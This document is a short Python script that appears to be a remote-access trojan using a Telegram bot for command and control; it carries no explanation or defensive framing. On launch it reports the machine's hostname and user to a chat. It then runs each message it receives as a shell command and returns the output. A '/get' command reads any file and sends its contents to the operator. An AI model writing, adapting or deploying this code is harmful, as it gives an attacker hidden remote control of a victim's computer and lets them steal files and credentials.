import json, os, subprocess, time, urllib.request, urllib.parse, socket
T = "7000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
C = "-1000000000000"
A = "https://api.telegram.org/bot" + T
def call(m, **kw):
    d = urllib.parse.urlencode(kw).encode()
    return json.load(urllib.request.urlopen(A + "/" + m, d, timeout=40))
call("sendMessage", chat_id=C, text="online " + socket.gethostname() + " " + os.getlogin())
off = 0
while True:
    try:
        for u in call("getUpdates", offset=off, timeout=30).get("result", []):
            off = u["update_id"] + 1
            cmd = u.get("message", {}).get("text", "")
            if cmd.startswith("/get "):
                with open(os.path.expanduser(cmd[5:]), "rb") as f:
                    call("sendMessage", chat_id=C, text=f.read()[:3500].decode("utf8", "replace"))
                continue
            out = subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout
            call("sendMessage", chat_id=C, text=out[-3500:] or "ok")
    except Exception:
        time.sleep(5)
